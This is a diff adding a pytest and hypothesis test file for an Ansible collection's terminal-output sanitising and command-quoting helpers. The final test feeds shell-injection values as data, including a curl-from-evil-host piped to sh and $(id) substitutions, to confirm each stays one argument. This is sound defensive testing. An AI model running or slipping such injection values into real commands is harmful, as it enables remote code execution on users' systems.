@@ -1,0 +1,79 @@
+# Copyright: (c) 2026, liqo.fabric contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Text of others on a terminal: no text leaves its line, obeys nothing and fills no screen."""
+
+from __future__ import annotations
+
+import json
+import math
+import shlex
+
+import pytest
+from ansible_collections.liqo.fabric.plugins.module_utils._fabric.command import command
+from ansible_collections.liqo.fabric.plugins.module_utils._fabric.terminal import (
+    LONGEST,
+    one_line,
+    one_lines,
+    printable,
+)
+from hypothesis import given
+from hypothesis import strategies as st
+
+ANYTHING = st.recursive(
+    st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
+    lambda children: st.lists(children) | st.dictionaries(st.text(), children),
+    max_leaves=10,
+)
+
+
+@pytest.mark.parametrize(
+    ("odd", "shown"),
+    [
+        ("a\nb", "a b"),
+        ("a\r\n\t b ", "a b"),
+        ("a\u2028b\x85c", "a b c"),
+        ("a\x1b[31mb", r"a\x1b[31mb"),
+        ("\x9b2J", r"\x9b2J"),
+        ("a\x00b", r"a\x00b"),
+        ("a\u202eb", r"a\u202eb"),
+        ("a\ud800", r"a\ud800"),
+        ("Zürich, 東京", "Zürich, 東京"),
+    ],
+)
+def test_what_is_not_printable_is_written_out(odd: str, shown: str) -> None:
+    assert one_line(odd) == shown
+
+
+@given(st.text(), st.integers(min_value=3, max_value=50))
+def test_a_line_is_printable_and_not_longer_than_asked(text: str, longest: int) -> None:
+    shown = one_line(text, longest=longest)
+    assert shown.isprintable()
+    assert len(shown) <= longest
+
+
+def test_a_long_text_is_cut() -> None:
+    assert one_line("x" * 10_000) == "x" * (LONGEST - 3) + "..."
+
+
+@given(ANYTHING)
+def test_every_text_of_a_result_is_printable_and_json_knows_every_number(result: object) -> None:
+    text = json.dumps(printable(result), allow_nan=False, ensure_ascii=False)
+    assert text.encode()
+    assert text.replace("\\n", "").isprintable()
+
+
+@given(ANYTHING)
+def test_in_one_line_means_every_text_however_deep(result: object) -> None:
+    assert json.dumps(one_lines(result), ensure_ascii=False).isprintable()
+
+
+def test_printable_values_stay_as_they_are() -> None:
+    result = {"a": ["b\n\tc", 1, 2.5, None, True], "d": ("e",)}
+    assert printable(result) == {"a": ["b\n\tc", 1, 2.5, None, True], "d": ["e"]}
+    assert printable([math.inf, -math.inf, math.nan]) == [None, None, None]
+
+
+@pytest.mark.parametrize("word", ["x'; curl evil|sh; '", "$(id)", "`id`", "a b", "", "\\", "-e", '{"a":1}'])
+def test_each_word_of_a_command_stays_one_word(word: str) -> None:
+    assert shlex.split(command("ansible-playbook", word)) == ["ansible-playbook", word]
